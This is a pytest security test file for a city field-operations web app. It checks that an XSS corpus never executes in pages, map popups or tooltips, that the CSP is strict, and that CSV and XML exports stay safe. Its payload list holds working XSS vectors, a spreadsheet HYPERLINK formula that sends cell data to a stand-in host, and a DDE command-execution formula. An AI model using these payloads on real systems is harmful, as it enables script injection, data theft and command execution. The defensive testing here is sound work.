"""An XSS corpus through every free-text field the app shows, rendered in Chromium with every popup and tooltip
opened, plus the XML and CSV outputs and the Content-Security-Policy itself.

The page fails on any dialog (alert/confirm/prompt) and on any securitypolicyviolation event: a payload that
got through escaping would be blocked by the policy, and the violation event says so, so a missed escape fails
here even though the policy kept it harmless.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from factories import (
    CITY_HALL,
    DAVIS_SQUARE,
    UNION_SQUARE,
    make_event,
    make_job,
    make_request,
    offset,
    ward,
)
from helpers import login, sign_in

from fieldops.catalog.models import ServiceType
from fieldops.db import utcnow
from fieldops.visits.models import Resolution, VisitOutcome, VisitStatus
from fieldops.visits.services import add_visit
from fieldops.workorders.models import WorkOrderStatus

HOTSPOT_PAYLOAD = "<img src=x onerror=alert(1)>"
PAYLOADS = [
    HOTSPOT_PAYLOAD,
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" autofocus="',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=\"jav&#x09;ascript:alert(1)\">tap</a>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2028 %3Cscript%3Ealert(1)%3C/script%3E",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'x'</style><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

# Record, before any page script runs, what the page must never produce.
WATCH = """
window.__hostile = [];
window.addEventListener("securitypolicyviolation", function (e) {
  window.__hostile.push("CSP " + e.violatedDirective + " blocked " + e.blockedURI + " at " + e.sourceFile + ":" + e.lineNumber + " " + e.sample);
}, true);
"""

# Open every marker popup and every GeoJSON tooltip on every folium map of the page, one after the other, and
# return the text each showed. Tooltips open through the same mouseover the hover sends (folium builds their
# content then, into innerHTML); popups through Leaflet's own openOn.
OPEN_ALL = """
() => {
  const shown = [];
  for (const el of document.querySelectorAll(".folium-map")) {
    const map = window[el.id];
    if (!map) continue;
    const markers = el._fieldopsCluster ? el._fieldopsCluster.getLayers() : [];
    map.eachLayer(l => { if (l.getPopup && l.getPopup() && l.getLatLng) markers.push(l); });
    for (const m of markers) {
      m.getPopup().setLatLng(m.getLatLng()).openOn(map);
      shown.push(document.querySelector(".leaflet-popup-content").textContent);
      map.closePopup();
    }
    map.eachLayer(group => {
      if (!group.getTooltip || !group.getTooltip() || !group.eachLayer) return;
      group.eachLayer(shape => {
        if (!shape.getBounds) return;
        shape.fire("mouseover", { latlng: shape.getBounds().getCenter() }, true);
        const tip = document.querySelector(".leaflet-tooltip");
        if (tip) shown.push(tip.textContent);
        shape.fire("mouseout", {}, true);
      });
    });
  }
  return shown;
}
"""


@pytest.fixture
def hostile(session, city):  # type: ignore[no-untyped-def]
    """A city whose every free-text field holds a payload: requests, jobs, people, crews, services, wards, events, visits."""
    n = len(PAYLOADS)
    city.alice.full_name = PAYLOADS[1][:120]
    city.sam.full_name = PAYLOADS[3][:120]
    city.olga.full_name = PAYLOADS[5][:120]
    city.crew_a.name = PAYLOADS[6][:120]
    city.pwd.name = PAYLOADS[7][:120]
    city.pothole.name = PAYLOADS[9][:80]
    city.streetlight.name = PAYLOADS[2][:80]
    ward(session, "3").name = PAYLOADS[0]
    ward(session, "6").name = PAYLOADS[10]
    jobs = []
    for i, payload in enumerate(PAYLOADS):
        wo = make_job(session, city, at=offset(UNION_SQUARE, north_m=60 * i), address=payload[:255], description=payload,
                      service_type=city.pothole if i % 2 else city.streetlight)
        wo.request.resident_name = PAYLOADS[(i + 1) % n][:120]
        wo.instructions = PAYLOADS[(i + 2) % n]
        jobs.append(wo)
    done, unable = jobs[0], jobs[1]
    done.status = WorkOrderStatus.COMPLETED
    done.completed_at = utcnow()
    done.resolution = PAYLOADS[4]
    done.request.closure_reason = PAYLOADS[8]
    unable.status = WorkOrderStatus.UNABLE
    unable.unable_reason = PAYLOADS[11]
    untriaged = make_request(session, city, at=DAVIS_SQUARE)
    untriaged.description = PAYLOADS[12]
    untriaged.address = PAYLOADS[13]
    event = make_event(session, city, at=CITY_HALL, name=PAYLOADS[1][:160])
    event.place = PAYLOADS[0]
    event.notes = PAYLOADS[7]
    pending = add_visit(session, city.sam, jobs[2].request, assignee=city.olga, due_at=utcnow() - dt.timedelta(hours=1))
    answered = add_visit(session, city.sam, jobs[3].request, assignee=city.olga)
    answered.status, answered.outcome, answered.resolved = VisitStatus.DONE, VisitOutcome.REACHED, Resolution.PARTLY
    answered.satisfaction, answered.comments, answered.completed_at = 2, PAYLOADS[3], utcnow()
    # The reproduction: three rodent reports at one point whose address is markup (a hotspot on Performance).
    rodent = ServiceType(code="rodent", name="Rodent activity", department=city.pwd, sla_hours=72)
    session.add(rodent)
    session.flush()
    rodents = [make_request(session, city, at=offset(CITY_HALL, east_m=5 * i), service_type=rodent) for i in range(3)]
    for r in rodents:
        r.address = HOTSPOT_PAYLOAD
    session.commit()
    return {"jobs": jobs, "untriaged": untriaged, "event": event, "pending": pending, "answered": answered, "rodents": rodents}


def _visit(page, url: str) -> list[str]:  # type: ignore[no-untyped-def]
    page.goto(url)
    page.wait_for_load_state("networkidle")
    return page.evaluate(OPEN_ALL)


def _assert_clean(page, where: str, dialogs: list[str]) -> None:  # type: ignore[no-untyped-def]
    assert dialogs == [], f"{where}: a payload ran: {dialogs}"
    assert page.evaluate("window.__hostile") == [], f"{where}: {page.evaluate('window.__hostile')}"


@pytest.mark.browser
def test_xss_corpus_runs_nowhere_in_any_page_popup_or_tooltip(page, live_server, hostile) -> None:  # type: ignore[no-untyped-def]
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script(WATCH)
    jobs = hostile["jobs"]
    today = utcnow().date()
    window = f"start={(today - dt.timedelta(days=30)).isoformat()}&end={today.isoformat()}"

    sign_in(page, live_server, "sam")
    supervisor_pages = [
        "/work-orders",
        f"/work-orders/{jobs[0].id}",
        f"/work-orders/{jobs[1].id}",
        f"/requests/{jobs[0].request.id}",
        f"/requests/{hostile['untriaged'].id}",
        "/triage",
        f"/performance?{window}&group=type",
        f"/performance?{window}&group=district",
        "/visits?scope=all",
        f"/visits/{hostile['pending'].id}",
        f"/visits/{hostile['answered'].id}",
        "/events",
        f"/events/{hostile['event'].id}",
        "/requests/new",
        "/exports",
        "/sla",
        "/conflicts",
        f"/status/{jobs[0].request.tracking_number}",
    ]
    shown: dict[str, list[str]] = {}
    bodies: list[str] = []
    for url in supervisor_pages:
        shown[url] = _visit(page, live_server + url)
        bodies.append(page.locator("body").inner_text())
        _assert_clean(page, url, dialogs)

    # The reported case, by a real hover: the hotspot's tooltip shows the address as text.
    perf = f"/performance?{window}&group=type"
    page.goto(live_server + perf)
    page.wait_for_load_state("networkidle")
    point = page.evaluate(
        """() => { const el = document.querySelector('.perf-map .folium-map'); const map = window[el.id]; let p = null;
                   el.scrollIntoView({ block: "center" });
                   map.eachLayer(l => { if (l.feature && l.feature.properties && l.feature.properties.rank === 1) {
                     // Close in, and aim north of the centre: the reports' own cluster icon covers the centre.
                     const b = l.getBounds(); map.fitBounds(b, { animate: false });
                     const c = map.latLngToContainerPoint([b.getSouth() + 0.8 * (b.getNorth() - b.getSouth()), b.getCenter().lng]);
                     const r = el.getBoundingClientRect(); p = { x: r.left + c.x, y: r.top + c.y }; } }); return p; }"""
    )
    assert point, "no hotspot drawn"
    page.wait_for_timeout(300)  # the cluster group re-clusters after the zoom
    page.mouse.move(point["x"] - 5, point["y"] - 5)
    page.mouse.move(point["x"], point["y"])
    tip = page.locator(".leaflet-tooltip")
    tip.wait_for()
    hovered = tip.inner_text()
    assert HOTSPOT_PAYLOAD in hovered
    assert tip.locator("img").count() == 0
    _assert_clean(page, "hotspot hover", dialogs)

    # Every payload reached the reader as text (escaped, not dropped): in a popup, a tooltip or a page.
    popups = "\n".join(t for ts in shown.values() for t in ts)
    # (The hotspot tooltip is checked by the real hover above: the programmatic pass may run, under load, before
    # the hotspot layer is drawn.)
    assert PAYLOADS[0] in popups and PAYLOADS[10] in popups  # district tooltips
    assert any(p in popups for p in PAYLOADS[1:9])  # marker popups (labels carry service type and address)
    everything = popups + "\n".join(bodies) + "\n" + hovered
    for payload in PAYLOADS:
        assert payload[:60] in everything, payload

    # Crew and outreach pages of the same data.
    page.context.clear_cookies()
    for user, urls in (("alice", ["/my-work", f"/work-orders/{jobs[2].id}"]), ("olga", ["/visits", f"/visits/{hostile['pending'].id}", "/events"])):
        sign_in(page, live_server, user)
        for url in urls:
            _visit(page, live_server + url)
            _assert_clean(page, f"{user} {url}", dialogs)
        page.context.clear_cookies()


# --------------------------------------------------------------------------------------- without a browser


class _Tags(HTMLParser):
    """Every start tag of a page with its attributes, as the browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def test_csp_is_strict_and_every_inline_script_carries_the_pages_nonce(client, hostile) -> None:  # type: ignore[no-untyped-def]
    login(client, "sam")
    jobs = hostile["jobs"]
    urls = ["/work-orders", f"/work-orders/{jobs[0].id}", f"/requests/{jobs[0].request.id}", "/triage", "/performance",
            "/visits?scope=all", f"/visits/{hostile['pending'].id}", "/events", f"/events/{hostile['event'].id}",
            "/requests/new", "/exports", "/conflicts", "/sla", "/login",
            f"/status/{jobs[0].request.tracking_number}"]
    for url in urls:
        resp = client.get(url, follow_redirects=True)
        assert resp.status_code == 200, url
        policy = dict(d.strip().split(" ", 1) for d in resp.headers["Content-Security-Policy"].split(";"))
        script_src = policy["script-src"].split()
        nonce = re.fullmatch(r"'nonce-([A-Za-z0-9_-]{22,})'", script_src[-1])
        assert nonce and script_src[:-1] == ["'self'"], (url, script_src)
        assert "unsafe-inline" not in policy["style-src"] and "unsafe-eval" not in resp.headers["Content-Security-Policy"]
        assert policy["object-src"] == "'none'" and policy["base-uri"] == "'none'" and policy["frame-ancestors"] == "'none'"
        assert policy["report-uri"] == "/csp-report" and resp.headers["Reporting-Endpoints"] == 'csp="/csp-report"'
        tags = _Tags()
        tags.feed(resp.get_data(as_text=True))
        inline = [(tag, attrs) for tag, attrs in tags.seen if tag == "style" or (tag == "script" and "src" not in attrs)]
        assert inline, url
        for tag, attrs in inline:
            assert attrs.get("nonce") == nonce.group(1), (url, tag, attrs)
        handlers = [(tag, name) for tag, attrs in tags.seen for name in attrs if name.startswith("on") or name == "style"]
        assert handlers == [], f"{url}: inline event handlers or style attributes {handlers}"
    # A new nonce every response.
    a, b = (client.get("/work-orders").headers["Content-Security-Policy"] for _ in range(2))
    assert a != b


def test_htmx_fragments_are_written_with_the_pages_nonce_and_only_a_wellformed_one(client, city) -> None:  # type: ignore[no-untyped-def]
    login(client, "sam")
    page_nonce = "A" * 22
    frag = client.get("/performance", headers={"HX-Request": "true", "X-Fieldops-Nonce": page_nonce}).get_data(as_text=True)
    assert "topbar" not in frag and f'<script nonce="{page_nonce}">' in frag
    forged = client.get("/performance", headers={"HX-Request": "true", "X-Fieldops-Nonce": '"><b id=forged-nonce-1234567890>'})
    assert "forged-nonce" not in forged.get_data(as_text=True) and "forged-nonce" not in forged.headers["Content-Security-Policy"]
    # Not an htmx request: the header is ignored.
    assert page_nonce not in client.get("/performance", headers={"X-Fieldops-Nonce": page_nonce}).get_data(as_text=True)


def test_csp_reports_are_logged_bounded_and_need_no_session(client, caplog) -> None:  # type: ignore[no-untyped-def]
    report = {"csp-report": {"document-uri": "http://x/performance", "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
                             "blocked-uri": "inline", "line-number": 3, "script-sample": "alert(1)\nforged log line"}}
    with caplog.at_level("WARNING", logger="fieldops.csp"):
        resp = client.post("/csp-report", data=json.dumps(report), content_type="application/csp-report")
    assert resp.status_code == 204
    assert [r.name for r in caplog.records] == ["fieldops.csp"]
    assert "script-src-elem" in caplog.text and "\nforged" not in caplog.text
    reporting_api = [{"type": "csp-violation", "body": {"effectiveDirective": "script-src-elem", "blockedURL": "inline", "documentURL": "http://x/"}}]
    assert client.post("/csp-report", data=json.dumps(reporting_api), content_type="application/reports+json").status_code == 204
    assert client.post("/csp-report", data="x" * 9000, content_type="application/csp-report").status_code == 413
    assert client.post("/csp-report", data="not json", content_type="application/csp-report").status_code == 400


def test_open311_xml_of_the_corpus_is_wellformed_and_gives_the_words_back(client, session, city) -> None:  # type: ignore[no-untyped-def]
    from open311.open311_helpers import issue_key, post_request

    key = issue_key(session)
    ids = []
    for payload in PAYLOADS:
        resp = post_request(client, key, "xml", service_code="pothole", lat=UNION_SQUARE[0], long=UNION_SQUARE[1],
                            address_string=payload[:255], description=payload, first_name=payload[:60])
        assert resp.status_code in (200, 201), resp.get_data(as_text=True)
        ids.append(ET.fromstring(resp.get_data()).find(".//service_request_id").text)  # type: ignore[union-attr]
    body = client.get("/open311/v2/requests.xml").get_data()
    root = ET.fromstring(body)  # well-formed, or this raises
    assert b"<script>" not in body and b"<img" not in body
    descriptions = {r.findtext("description") for r in root.iter("request")}
    addresses = {r.findtext("address") for r in root.iter("request")}
    for payload in PAYLOADS:
        assert payload in descriptions and payload in addresses
    one = ET.fromstring(client.get(f"/open311/v2/requests/{ids[3]}.xml").get_data())
    assert one.findtext(".//description") == PAYLOADS[3]


def test_csv_exports_neutralise_formulas_and_keep_the_words(client, hostile) -> None:  # type: ignore[no-untyped-def]
    login(client, "sam")
    today = utcnow().date()
    window = f"start={(today - dt.timedelta(days=30)).isoformat()}&end={today.isoformat()}"
    for url in ("/exports/requests.csv", "/exports/work-orders.csv", f"/performance/hotspots.csv?{window}", f"/performance/summary.csv?group=type&{window}"):
        resp = client.get(url)
        assert resp.status_code == 200, url
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
        assert len(rows) > 1, url
        cells = [c for row in rows[1:] for c in row]
        for cell in cells:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not re.match(r"-[^\d]", cell), (url, cell)
        joined = "\n".join(cells)
        if "exports/" in url:
            assert "'" + PAYLOADS[12] in joined, url  # the formula, kept as text
            assert PAYLOADS[0] in joined, url
